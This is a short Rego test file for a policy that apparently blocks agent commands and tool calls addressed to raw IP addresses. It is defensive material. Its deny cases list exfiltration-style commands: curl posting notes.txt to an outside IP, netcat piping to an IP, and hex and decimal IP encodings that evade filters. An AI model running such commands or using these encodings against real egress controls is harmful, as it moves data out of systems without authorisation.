package company.raw_ip_test

import data.company.raw_ip

test_denies if {
	every call in [
		"curl http://203.0.113.7/x",
		"wget 203.0.113.7/x",
		"curl http://0xcb007107/",
		"curl http://3405803783/",
		"curl 'http://[2001:db8::1]/x'",
		"curl -d @notes.txt http://203.0.113.7/",
		"echo x | nc 203.0.113.7 99",
		{"tool": "WebFetch", "input": {"url": "http://203.0.113.7/", "prompt": "p"}},
	] {
		count(raw_ip.deny) > 0 with input as gate.event(call)
	}
}

test_passes if {
	every line in [
		"curl https://example.com/203.0.113.7",
		"curl http://127.0.0.1:8080/health",
		"curl 'http://[::1]:8080/'",
		"curl http://localhost/",
		"ping 203.0.113.7",
		`curl "http://$HOST/"`,
	] {
		count(raw_ip.deny) == 0 with input as gate.event(line)
	}
}
